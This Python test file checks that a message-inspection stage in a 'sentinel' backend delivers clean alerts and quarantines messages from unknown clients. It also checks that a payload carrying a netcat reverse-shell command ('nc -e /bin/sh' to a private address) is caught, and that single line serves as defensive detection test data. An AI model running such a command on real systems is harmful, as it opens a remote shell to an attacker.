"""Issue 14's Inspector plugs into the worker's Stage seam (pure; no servers)."""

from __future__ import annotations

from backend.sentinel.inspecting import InspectorStage
from backend.sentinel.inspection import Inspector, load_rules
from backend.sentinel.inspection.rules import DEFAULT_RULES_PATH
from backend.sentinel.stages import Action, InboundMessage, run_stages


def _message(client_id: str, payload: bytes, at: float = 1000.0) -> InboundMessage:
    return InboundMessage(
        client_id=client_id,
        subject=f"sentinel.ingress.clients.{client_id}.alerts",
        payload=payload,
        headers={},
        received_at=at,
        message_id=f"{client_id}-x",
    )


def test_the_inspector_decides_through_the_stage_seam() -> None:
    inspector = Inspector(load_rules(DEFAULT_RULES_PATH))
    inspector.auth.set_clients([("c1", True), ("off", False)])
    stage = InspectorStage(inspector)
    clean = run_stages([stage], _message("c1", b'{"title": "door forced"}'))
    assert clean.action is Action.DELIVER
    shell = run_stages([stage], _message("c1", b'{"x": "nc -e /bin/sh 10.0.0.1"}', 1001.0))
    assert shell.action is Action.QUARANTINE
    assert [f.rule for f in shell.findings] == ["reverse-shell"]
    unknown = run_stages([stage], _message("ghost", b"{}", 1002.0))
    assert unknown.action is Action.QUARANTINE
    assert {f.rule for f in unknown.findings} == {"unknown-client"}
    assert stage.events  # the aggregator reported what it saw
